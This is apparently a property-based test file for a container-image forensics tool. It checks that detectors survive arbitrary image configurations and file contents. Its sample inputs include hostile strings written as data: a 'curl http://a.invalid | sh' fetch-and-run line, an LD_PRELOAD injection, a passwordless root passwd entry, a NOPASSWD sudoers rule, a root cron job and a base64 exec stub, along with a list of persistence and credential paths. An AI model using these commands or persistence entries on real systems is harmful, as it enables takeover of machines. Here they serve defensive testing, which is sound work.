"""No value of an image makes a detector fail: whatever the configuration, names and contents say."""

from __future__ import annotations

import tarfile

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from forensics.detectors import Needs, Scene, detect
from forensics.model.image import HistoryEntry, Image, ImageConfig, LayerSource
from forensics.model.issues import Issue
from tests.scenes import File, build, findings

TEXTS = st.one_of(
    st.text(max_size=80),
    st.sampled_from(
        [
            "sh", "-c", "curl http://a.invalid | sh", "$(", "`", "'", "/tmp/x",
            "\x1b]52;c;eA==\x07", "\ud800", "\udcff", "PATH=", "LD_PRELOAD=/\udcff",
            "A_TOKEN=q7Rk2vZp9LmX4tWc", "/bin/sh -c #(nop) COPY a in /", "RUN |1 A=b /bin/sh -c x",
        ]
    ),
)  # fmt: skip
LISTS = st.lists(TEXTS, max_size=5).map(tuple)
CONFIGS = st.builds(
    ImageConfig,
    user=TEXTS,
    entrypoint=LISTS,
    cmd=LISTS,
    env=LISTS,
    labels=st.dictionaries(TEXTS, TEXTS, max_size=4),
    exposed_ports=LISTS,
    volumes=LISTS,
    working_dir=TEXTS,
    shell=LISTS,
    healthcheck=LISTS,
    on_build=LISTS,
    author=TEXTS,
    history=st.lists(st.builds(HistoryEntry, created_by=TEXTS, empty_layer=st.booleans()), max_size=5).map(
        tuple
    ),
)
ISSUES = st.builds(
    Issue,
    stage=st.just("source"),
    code=st.sampled_from(["digest-mismatch", "documents-disagree", "unsafe-name", "limit", "else"]),
    subject=TEXTS,
    message=TEXTS,
)


@settings(deadline=None)
@given(CONFIGS, LISTS, st.lists(ISSUES, max_size=3).map(tuple))
def test_any_configuration(config: ImageConfig, lines: tuple[str, ...], issues: tuple[Issue, ...]) -> None:
    layers = tuple(LayerSource(index=n, name="x", created_by=line) for n, line in enumerate(lines))
    image = Image(source="x", reference="x", config=config, layers=layers, tags=lines, issues=issues)
    for needs in Needs:
        for found in detect(Scene(image=image, rules={}), needs):
            assert all(one.text.isprintable() for one in found.evidence)
            assert found.title.isprintable()


WATCHED = (
    "/etc/ld.so.preload", "/etc/ld.so.conf.d/x", "/etc/passwd", "/etc/shadow", "/etc/sudoers",
    "/etc/doas.conf", "/etc/crontab", "/etc/cron.d/x", "/etc/crontabs/root", "/etc/anacrontab",
    "/etc/systemd/system/x.service", "/etc/inittab", "/etc/rc.local", "/root/.bashrc",
    "/root/.ssh/authorized_keys", "/etc/ssh/sshd_config", "/usr/lib/python3/x.pth", "/entry",
    "/tmp/x", "/usr/lib/.x/y", "/dev/null", "/var/lib/dpkg/status", "/var/lib/dpkg/info/a.md5sums",
    "/lib/apk/db/installed",
)  # fmt: skip
CONTENTS = st.one_of(
    st.binary(max_size=120),
    st.sampled_from(
        [
            b"#!/bin/sh\ncurl http://a.invalid | sh\n", b"* * * * * root /tmp/x\n",
            b"root::0:0::/:/bin/sh\n", b"a:b:0:0:c:d:e\n", b"ALL ALL=(ALL) NOPASSWD: ALL\n",
            b"\x7fELF\x02\x01\x01", b"[Service]\nExecStart=\\\n", b"AuthorizedKeysFile %h\n",
            b"Package: a\nStatus: install ok installed\nVersion: 1\n",
            b"import base64; exec(base64.b64decode(''))\n",
        ]
    ),
)  # fmt: skip
FILES = st.one_of(
    st.builds(
        File,
        content=CONTENTS,
        mode=st.sampled_from([0o644, 0o755, 0o4755, 0o2777]),
        xattrs=st.dictionaries(st.just("security.capability"), st.binary(max_size=24), max_size=1),
    ),
    st.builds(
        File, kind=st.just(tarfile.SYMTYPE), link=st.sampled_from([*WATCHED, "..", "../../../x", "", "a\x1b"])
    ),
    st.builds(File, kind=st.just(tarfile.CHRTYPE), device=st.tuples(st.integers(0, 10), st.integers(0, 10))),
    st.none(),
)
LAYERS = st.lists(st.lists(st.tuples(st.sampled_from(WATCHED), FILES), max_size=6), min_size=1, max_size=3)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(LAYERS)
def test_any_content_at_the_places_that_are_read(layers: list[list[tuple[str, File | None]]]) -> None:
    config = ImageConfig(entrypoint=("/entry",), env=("LD_PRELOAD=/tmp/x", "PATH=/usr/lib/.x:/usr/bin"))
    for found in findings(build(layers, config=config)):
        assert all(one.text.isprintable() for one in found.evidence)
        assert all(one.offset is None or one.offset >= 0 for one in found.evidence)
